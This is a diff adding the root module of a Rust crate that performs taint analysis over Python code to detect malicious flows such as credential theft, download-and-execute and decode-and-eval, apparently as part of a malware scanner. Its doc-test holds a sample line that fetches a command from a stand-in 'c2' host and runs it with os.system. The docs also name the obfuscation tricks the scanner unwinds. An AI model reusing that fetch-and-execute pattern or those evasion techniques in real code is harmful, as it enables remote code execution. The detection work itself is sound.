@@ -1,0 +1,127 @@
+//! `dataflow` — behavioral taint analysis over [`pysrc::Module`] trees.
+//!
+//! Every other detector in the pipeline keys on literal text, and the
+//! robustness harness shows what that costs: renaming and call
+//! indirection erode recall because the *names* change while the
+//! *behavior* — read credentials → exfiltrate, download → exec,
+//! decode → eval — does not. This crate recovers the behavior:
+//!
+//! * A declarative **catalog** ([`catalog`]) of taint sources
+//!   (environment/credential/file reads, `socket.recv`,
+//!   `urllib`/`requests` fetches, `input`) and sinks (`exec`/`eval`/
+//!   `compile`, `subprocess`/`os.system`, socket send / HTTP post,
+//!   file writes to startup paths).
+//! * An **intra-procedural taint engine** ([`analyze`]) propagating
+//!   value flow through `Assign` targets, call arguments, attribute
+//!   chains, `BinOp` concatenation and `with`/`for` block headers,
+//!   with alias resolution through `import ... as` bindings so
+//!   `import os as o; o.system(cmd)` still reads as `os.system`.
+//! * A **constant-string folder** evaluating constant concatenation,
+//!   `%`-formatting, `base64.b64decode`, `bytes.fromhex` and `chr`
+//!   chains. Recovered constants are reported as [`FoldedConst`]s so
+//!   the scan layer can re-expose them to literal rules as synthetic
+//!   decoded layers, and `getattr(__import__("m"), "f")` indirection
+//!   folds back to the dotted callee path `m.f`.
+//!
+//! Each detected flow carries its full source→sink step chain with
+//! source lines ([`FlowFinding::steps`]), so a verdict stays
+//! explainable: *which* call tainted *which* variable, and where it
+//! reached the sink.
+//!
+//! The analysis is deliberately intra-procedural and single-pass: it
+//! never iterates to a fixpoint, so cost is linear in statement count
+//! and results are deterministic — properties the per-digest artifact
+//! cache in `scanhub` relies on. `docs/threat_model.md` records what
+//! escapes this scope.
+//!
+//! # Examples
+//!
+//! ```
+//! let module = pysrc::parse_module(
+//!     "import os, requests\ncmd = requests.get('https://c2/t').text\nos.system(cmd)\n",
+//! );
+//! let summary = dataflow::analyze(&module);
+//! assert_eq!(summary.flows.len(), 1);
+//! assert_eq!(summary.flows[0].source, "requests.get");
+//! assert_eq!(summary.flows[0].sink, "os.system");
+//! ```
+
+#![forbid(unsafe_code)]
+#![warn(missing_docs)]
+
+pub mod catalog;
+mod engine;
+mod fold;
+
+pub use catalog::{SinkKind, SourceKind};
+pub use engine::analyze;
+
+/// One step in a source→sink chain: a source read, an assignment that
+/// carried the taint, or the sink call itself.
+#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Hash)]
+pub struct FlowStep {
+    /// 1-based source line.
+    pub line: u32,
+    /// Human-readable description (`cmd = requests.get(...)`).
+    pub note: String,
+}
+
+/// A complete source→sink taint flow.
+#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Hash)]
+pub struct FlowFinding {
+    /// Behavior label, `flow:net-fetch->proc-exec`.
+    pub label: String,
+    /// Canonical source path (`requests.get`, after alias resolution).
+    pub source: String,
+    /// Canonical sink path (`os.system`).
+    pub sink: String,
+    /// The step chain from source to sink, in program order.
+    pub steps: Vec<FlowStep>,
+}
+
+/// A constant string recovered by folding a non-literal expression
+/// (concatenation, decode chain, `%`-format). Surface rules never saw
+/// this text; re-scanning it closes the string-splitting gap.
+#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Hash)]
+pub struct FoldedConst {
+    /// 1-based source line of the folded expression.
+    pub line: u32,
+    /// The recovered constant.
+    pub text: String,
+}
+
+/// The per-module analysis result: flows plus recovered constants,
+/// both sorted and deduplicated.
+#[derive(Debug, Clone, Default, PartialEq, Eq)]
+pub struct TaintSummary {
+    /// Source→sink flows, sorted by (label, source, sink).
+    pub flows: Vec<FlowFinding>,
+    /// Folded constants, sorted by (line, text).
+    pub folded: Vec<FoldedConst>,
+}
+
+impl TaintSummary {
+    /// Heap bytes held by the summary (for cache accounting).
+    pub fn stored_bytes(&self) -> usize {
+        let flows: usize = self
+            .flows
+            .iter()
+            .map(|f| {
+                f.label.len()
+                    + f.source.len()
+                    + f.sink.len()
+                    + f.steps
+                        .iter()
+                        .map(|s| s.note.len() + std::mem::size_of::<FlowStep>())
+                        .sum::<usize>()
+                    + std::mem::size_of::<FlowFinding>()
+            })
+            .sum();
+        let folded: usize = self
+            .folded
+            .iter()
+            .map(|c| c.text.len() + std::mem::size_of::<FoldedConst>())
+            .sum();
+        flows + folded
+    }
+}
